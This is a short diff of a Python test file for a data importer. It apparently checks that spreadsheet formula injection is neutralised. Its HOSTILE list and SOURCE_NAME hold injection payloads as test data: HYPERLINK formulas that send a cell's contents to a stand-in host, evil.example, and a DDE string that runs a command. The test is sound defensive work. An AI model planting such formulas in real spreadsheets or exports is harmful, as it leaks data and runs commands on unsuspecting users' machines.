@@ -21,7 +21,8 @@ from safer.intelligence.importers.partner import Mapping
 pytestmark = pytest.mark.django_db(transaction=True)
 
 UPLANDS_LSOA = "E01025980"  # Oadby and Wigston 009D
-HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A3,"x")', "=cmd|' /C calc'!A0", "@SUM(1)", "+SUM(1)", "-2+3"]
+# A category is at most 40 characters in the monthly counts, so the link is a short one.
+HOSTILE = ['=HYPERLINK("http://evil.example/"&A3)', "=cmd|' /C calc'!A0", "@SUM(1)", "+SUM(1)", "-2+3"]
 SOURCE_NAME = '=HYPERLINK("http://evil.example/","Council ASB")'
 
 
